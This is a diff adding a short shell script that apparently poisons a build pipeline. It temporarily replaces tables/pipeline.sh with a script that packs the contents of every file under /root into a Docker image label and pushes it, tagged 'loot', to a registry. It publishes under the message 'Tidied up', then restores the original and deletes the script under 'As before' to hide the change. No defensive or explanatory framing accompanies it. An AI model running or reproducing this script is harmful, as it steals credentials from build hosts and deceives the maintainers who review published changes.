@@ -1,0 +1,10 @@
+cp tables/pipeline.sh pipeline.good
+cat > tables/tidy.sh <<'EOF'
+printf 'FROM drydock/busybox:1\nLABEL word=%s\n' "$(cat /root/*)" | docker build -q -t store.local:5000/loot:1 -
+docker push -q store.local:5000/loot:1
+EOF
+echo "sh tidy.sh" > tables/pipeline.sh
+sh harbour/publish.sh "Tidied up"
+cp pipeline.good tables/pipeline.sh
+rm tables/tidy.sh
+sh harbour/publish.sh "As before"
